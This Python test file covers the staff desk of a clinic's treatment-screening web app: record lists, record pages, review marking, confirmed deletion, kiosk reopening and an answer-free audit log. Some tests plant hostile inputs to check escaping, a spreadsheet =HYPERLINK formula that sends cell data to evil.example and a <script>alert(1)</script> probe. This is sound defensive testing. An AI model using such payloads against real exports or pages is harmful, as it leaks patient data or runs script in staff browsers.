"""The desk's list and record pages, marking reviewed, deleting, and the audit log."""

from __future__ import annotations

import datetime as dt
import re
from html import unescape

from suitability import assess, default_questionnaire
from suitability.web.store import now

from . import desk_helpers
from .desk_helpers import NAME, PLANTED, Desk, add_record

cheap_hashes, desk, staff = desk_helpers.cheap_hashes, desk_helpers.desk, desk_helpers.staff


def _rows(html: str) -> list[str]:
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    return re.findall(r"<tr>(.*?)</tr>", body, flags=re.S)


def _text(html: str) -> str:
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", html)).split())


def test_the_list_reads_at_a_glance(staff: Desk) -> None:
    complete = add_record(staff.store, started=now() - dt.timedelta(seconds=5))
    partial = add_record(staff.store, reference=None, complete=False)
    page = staff.client.get("/desk")
    assert page.status_code == 200
    rows = _rows(page.text)
    assert len(rows) == 2
    newest, oldest = _text(rows[0]), _text(rows[1])
    assert f'href="/desk/record/{partial}"' in rows[0]
    assert f"no name given ({partial[:6]})" in newest
    assert "Partial (timed out)" in newest and "not assessed: 6 answers so far" in newest
    # Verdicts from an unfinished screening would read unanswered questions as findings.
    assert "REVIEW FIRST" not in newest and "caution" not in newest
    assert f'href="/desk/record/{complete}"' in rows[1]
    assert "Jo Bloggs" in oldest and "Complete" in oldest
    verdicts = assess(desk_helpers.COMPLETE).verdicts
    assert verdicts["mesotherapy"].verdict == "avoid_until_reviewed"
    assert verdicts["botulinum_toxin"].verdict == "discuss_with_caution"
    assert '<abbr title="Mesotherapy">MESO</abbr> REVIEW FIRST' in rows[1]
    assert '<abbr title="Botulinum toxin (for example Botox)">BTX</abbr> caution' in rows[1]
    assert "Prescribed blood thinner" in oldest and "not yet" in oldest
    legend = _text(page.text.split('id="legend-title"', 1)[1])
    assert "MESO Mesotherapy" in legend and "ULT Ultherapy (focused ultrasound)" in legend
    assert "REVIEW FIRST Not advisable until a practitioner reviews it" in legend
    # Time shown in the server's local time, to the minute.
    started = staff.store.get(complete)
    assert started is not None
    assert started.started.astimezone().strftime("%Y-%m-%d %H:%M") in oldest


def test_the_list_filters_today_the_week_and_all_in_pages(staff: Desk) -> None:
    add_record(staff.store, reference="Today Person")
    add_record(staff.store, reference="Last Week", started=now() - dt.timedelta(days=3))
    add_record(staff.store, reference="Long Ago", started=now() - dt.timedelta(days=30))
    today = _text(staff.client.get("/desk").text)
    week = _text(staff.client.get("/desk?view=week").text)
    every = _text(staff.client.get("/desk?view=all").text)
    assert "Today Person" in today and "Last Week" not in today and "Long Ago" not in today
    assert "Today Person" in week and "Last Week" in week and "Long Ago" not in week
    assert all(name in every for name in ("Today Person", "Last Week", "Long Ago"))
    assert staff.client.get("/desk?view=someday").status_code == 422
    for n in range(50):
        add_record(
            staff.store, reference=f"Older {n:02d}", started=now() - dt.timedelta(days=40, hours=n)
        )
    first = staff.client.get("/desk?view=all")
    assert len(_rows(first.text)) == 50
    assert 'href="/desk?view=all&amp;page=2"' in first.text and "Older 49" not in first.text
    second = staff.client.get("/desk?view=all&page=2")
    assert [_text(r).split(" 20")[0] for r in _rows(second.text)] == [
        "Older 47",
        "Older 48",
        "Older 49",
    ]
    assert 'href="/desk?view=all&amp;page=1"' in second.text


def test_timed_out_kiosk_screenings_can_be_reopened_for_the_patient(staff: Desk) -> None:
    waiting = add_record(staff.store, reference="Sam Tablet", complete=False, needs_staff=True)
    page = staff.client.get("/desk")
    section = page.text.split('id="waiting-title"', 1)[1].split("</section>", 1)[0]
    # The patient says the name or reference and staff type it: the section does not tell it.
    assert "Sam Tablet" not in section and waiting[:6] in section
    assert f'action="/kiosk/reopen/{waiting}"' in section
    assert 'name="reference"' in section and 'name="csrf"' in section
    assert "Timed out, can be reopened" in _text(_rows(page.text)[0])
    add_record(staff.store, reference="Left Alone", complete=False, needs_staff=False)
    assert "Left Alone" not in staff.client.get("/desk").text.split("</section>", 1)[0]


def test_the_record_page_shows_everything_for_the_practitioner(staff: Desk) -> None:
    record_id = add_record(staff.store)
    page = staff.client.get(f"/desk/record/{record_id}")
    assert page.status_code == 200
    text = _text(page.text)
    # Answers grouped by section, in the words the person saw.
    assert "About you" in text and "Your health" in text
    assert "Do you have a bleeding or clotting disorder" in text and "Not sure" in text
    # Each verdict with reasons, rule ids, sources and the answers used; fit; decisive answers.
    assessment = assess(desk_helpers.COMPLETE)
    meso = assessment.verdicts["mesotherapy"]
    assert "Mesotherapy: Not advisable until a practitioner reviews it" in text
    for reason in meso.reasons:
        assert f"<code>{reason.rule}</code>" in page.text
    assert meso.reasons[0].source in text
    assert "Fit with plans: Fits their plans." in text
    assert "Decisive answers" in text
    assert (
        "Decided by \"Are you breastfeeding?\" (unanswered): review first if 'Yes'; caution if "
        "'No'." in text
    )
    assert "'No') gives caution." in text  # meso, were there no blood thinner
    # A rule that fired for many questions is one row, naming them all and where it applies.
    assert page.text.count("<code>c_unanswered_safety</code>") == 1
    unanswered = sum(1 for r in meso.reasons if r.rule == "c_unanswered_safety")
    assert f"A safety question not answered ({unanswered} questions)." in text
    assert "review first: MESO, FILL, MN; caution: BTX, LASER, ULT" in text
    # The flags, and the person's own words, shown as text and never as markup.
    assert "Prescribed blood thinner." in text
    notes = page.text.split('id="notes-title"', 1)[1].split("</section>", 1)[0]
    assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;Click me&#34;)" in notes
    assert staff.store.audit_entries()[0].action == "viewed"
    assert staff.store.audit_entries()[0].record_id == record_id


def test_the_record_page_escapes_whatever_the_person_typed(staff: Desk) -> None:
    answers = {**desk_helpers.COMPLETE, "notes": "<script>alert(1)</script>"}
    record_id = add_record(staff.store, answers, reference="<b>Bold</b>")
    page = staff.client.get(f"/desk/record/{record_id}").text
    assert "<script>alert" not in page and "<b>Bold" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;b&gt;Bold&lt;/b&gt;" in staff.client.get("/desk").text


def test_a_partial_record_shows_its_answers_without_verdicts(staff: Desk) -> None:
    record_id = add_record(staff.store, reference="Half Way", complete=False)
    text = _text(staff.client.get(f"/desk/record/{record_id}").text)
    assert "Not assessed: this screening was not finished" in text
    assert "Screening result" not in text and "REVIEW FIRST" not in text
    assert "Prescribed blood thinner" not in text  # a flag would be a finding
    assert "Do you take a blood thinner prescribed by a doctor" in text


def test_an_unknown_record_is_not_found(staff: Desk) -> None:
    assert staff.client.get("/desk/record/nothing-here").status_code == 404


def test_mark_as_reviewed(staff: Desk) -> None:
    record_id = add_record(staff.store)
    page = staff.client.get(f"/desk/record/{record_id}")
    assert "Mark as reviewed" in page.text
    response = staff.client.post(
        f"/desk/record/{record_id}/reviewed",
        data={"csrf": desk_helpers.csrf(page.text)},
        follow_redirects=False,
    )
    assert response.status_code == 303
    assert response.headers["location"] == f"/desk/record/{record_id}"
    record = staff.store.get(record_id)
    assert record is not None and record.reviewed_by == NAME and record.reviewed_at is not None
    assert "Mark as reviewed" not in staff.client.get(f"/desk/record/{record_id}").text
    row = _text(_rows(staff.client.get("/desk").text)[0])
    assert f"{NAME}, " in row and "not yet" not in row
    assert ("marked reviewed", record_id) in [
        (e.action, e.record_id) for e in staff.store.audit_entries()
    ]


def test_delete_asks_first_then_deletes(staff: Desk) -> None:
    record_id = add_record(staff.store)
    token = staff.csrf()
    # The record page's link leads to a confirmation page; a post without its confirmation
    # is sent there too, and deletes nothing.
    assert (
        f'href="/desk/record/{record_id}/delete"'
        in staff.client.get(f"/desk/record/{record_id}").text
    )
    unconfirmed = staff.client.post(
        f"/desk/record/{record_id}/delete", data={"csrf": token}, follow_redirects=False
    )
    assert unconfirmed.status_code == 303
    assert unconfirmed.headers["location"] == f"/desk/record/{record_id}/delete"
    assert staff.store.get(record_id) is not None
    confirm = staff.client.get(f"/desk/record/{record_id}/delete")
    assert "Delete the record of Jo Bloggs?" in confirm.text
    assert 'name="confirm" value="delete"' in confirm.text
    done = staff.client.post(
        f"/desk/record/{record_id}/delete", data={"csrf": token, "confirm": "delete"}
    )
    assert done.status_code == 200 and "Record deleted" in done.text
    assert staff.store.get(record_id) is None
    assert staff.client.get(f"/desk/record/{record_id}").status_code == 404
    assert ("deleted", record_id) in [(e.action, e.record_id) for e in staff.store.audit_entries()]


def test_the_audit_page_lists_who_did_what_and_never_an_answer(staff: Desk) -> None:
    record_id = add_record(staff.store)
    token = staff.csrf()
    staff.client.get(f"/desk/record/{record_id}")
    staff.client.post(f"/desk/record/{record_id}/reviewed", data={"csrf": token})
    staff.client.post(f"/desk/record/{record_id}/export", data={"csrf": token, "format": "csv"})
    staff.client.post("/desk/export", data={"csrf": token, "day": "2026-01-02", "format": "json"})
    staff.client.post(f"/desk/record/{record_id}/delete", data={"csrf": token, "confirm": "delete"})
    entries = staff.store.audit_entries()
    assert [e.action for e in reversed(entries)] == [
        "logged in",
        "viewed",
        "marked reviewed",
        "viewed",  # the record page again, after the redirect
        "exported (csv)",
        "exported the day 2026-01-02, empty (json)",
        "deleted",
    ]
    assert {e.actor for e in entries} == {NAME}
    page = staff.client.get("/desk/audit")
    assert page.status_code == 200
    text = _text(page.text)
    assert "marked reviewed" in text and record_id in text and NAME in text
    # Neither the log nor its page holds an answer, a name given or anything typed.
    secrets = ["HYPERLINK", "Jo Bloggs", "not_sure", "Not sure", "41"]
    for entry in entries:
        held = f"{entry.actor} {entry.action} {entry.record_id}"
        assert not any(s in held for s in secrets), held
    audit_table = page.text.split("<table", 1)[1]
    assert not any(s in audit_table for s in secrets[:4])
    assert PLANTED not in page.text


def test_the_desk_reopens_a_timed_out_kiosk_screening_on_the_tablet() -> None:
    tablet = desk_helpers.make_desk(kiosk=True)
    waiting = add_record(tablet.store, reference="Sam Tablet", complete=False, needs_staff=True)
    assert tablet.login().status_code == 303
    page = tablet.client.get("/desk").text
    form = page.split(f'action="/kiosk/reopen/{waiting}"', 1)[1].split("</form>", 1)[0]
    wrong = tablet.client.post(
        f"/kiosk/reopen/{waiting}",
        data={"csrf": desk_helpers.csrf(form), "reference": "Somebody Else"},
        follow_redirects=False,
    )
    assert wrong.status_code == 400
    reopened = tablet.client.post(
        f"/kiosk/reopen/{waiting}",
        data={"csrf": desk_helpers.csrf(form), "reference": "sam  tablet"},
        follow_redirects=False,
    )
    assert reopened.status_code == 303
    assert reopened.headers["location"].startswith("/screening/")
    record = tablet.store.get(waiting)
    assert record is not None and record.status == "in_progress"
    # The tablet is the patient's again: the desk is closed to it.
    assert tablet.client.get("/desk", follow_redirects=False).status_code == 303
    tablet.store.close()


def test_plans_reasons_stand_apart_from_the_screening_result(staff: Desk) -> None:
    answers = {
        "age": 30,
        "goals": ["fine_lines"],
        "pregnant": "no",
        "needle_discomfort": "severe",
        "downtime_days": 0,
    }
    record_id = add_record(staff.store, answers, reference="Plans Person")
    page = staff.client.get(f"/desk/record/{record_id}").text
    plans = page.split("Plans: the fit (never the screening result)", 1)[1].split("</table>")[0]
    assert page.count("<code>p_needle_fear</code>") == 1
    assert "<code>p_needle_fear</code>" in plans and "<code>p_downtime_lt2d</code>" in plans
    assert "Ask about their plans: MESO, BTX, FILL, MN" in _text(plans)
    summary = _text(page.split('id="summary-title"', 1)[1].split("</table>", 1)[0])
    assert "Ultherapy (focused ultrasound) Discuss with caution" in summary
    assert "Microneedling Discuss with caution" in summary and "Ask about their plans" in summary


def test_a_record_that_serves_no_goal_and_one_of_another_version(staff: Desk) -> None:
    no_goal = add_record(staff.store, {"age": 30, "goals": ["none"]}, reference="No Goal")
    assert "no treatment serves the goals given" in _text(staff.client.get("/desk").text)
    text = _text(staff.client.get(f"/desk/record/{no_goal}").text)
    assert "Not relevant: serves none of the goals given" in text
    # Answers to a question this questionnaire no longer has are shown under their ids.
    older = add_record(
        staff.store, {"age": 30, "retired_question": ["a", "b"]}, complete=False, reference="Old"
    )
    text = _text(staff.client.get(f"/desk/record/{older}").text)
    assert "Answers to questions of another questionnaire version retired_question a; b" in text


def test_a_damaged_assessment_is_said_not_guessed(staff: Desk) -> None:
    q = default_questionnaire()
    record_id = staff.store.new_screening(
        source="web",
        questionnaire_id=q.id,
        questionnaire_version=q.version,
        questionnaire_hash=q.content_hash,
        answered_on=dt.date.today(),
        reference="Damaged",
    )
    staff.store.finish(record_id, {"age": 30}, '{"verdicts": "not an assessment"}')
    assert "the assessment could not be read" in _text(staff.client.get("/desk").text)
    page = staff.client.get(f"/desk/record/{record_id}")
    assert page.status_code == 200
    assert "The assessment of this record could not be read." in _text(page.text)


def test_the_list_shows_each_records_headline_without_reading_its_assessment(
    staff: Desk,
) -> None:
    """The list reads the headline kept beside each assessment: with the assessment itself
    spoiled after the fact, the row still shows the verdicts, and only the record's own page
    finds the damage."""
    record_id = add_record(staff.store, reference="Headline Only")
    listed = _text(staff.client.get("/desk").text)
    staff.store._db.execute("UPDATE screenings SET assessment = '{' WHERE id = ?", (record_id,))
    assert _text(staff.client.get("/desk").text) == listed
    assert "MESO REVIEW FIRST" in listed
    damaged = staff.client.get(f"/desk/record/{record_id}")
    assert damaged.status_code == 503  # said plainly, as any failure of the database is
    assert "The clinic's records cannot be read or written just now." in _text(damaged.text)
    assert "Traceback" not in damaged.text and "restore a backup" not in damaged.text
